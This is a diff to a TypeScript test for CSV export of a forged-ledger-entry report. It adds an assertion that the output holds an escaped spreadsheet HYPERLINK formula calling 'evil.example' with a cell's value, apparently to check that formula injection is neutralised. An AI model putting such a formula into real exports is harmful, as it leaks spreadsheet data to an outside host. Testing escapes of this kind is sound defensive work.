@@ -141,6 +141,7 @@ describe('the report of a forged ledger entry', () => {
       },
     }).then(() => { throw new Error('the report of a forged entry passed'); }, (e: { code: number; stdout: string }) => e);
     expect(run.code).toBe(1);
+    expect(run.stdout).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Verified"")"');
     expect(run.stdout).toBe(renderReports([report], 'csv'));
   });
 });
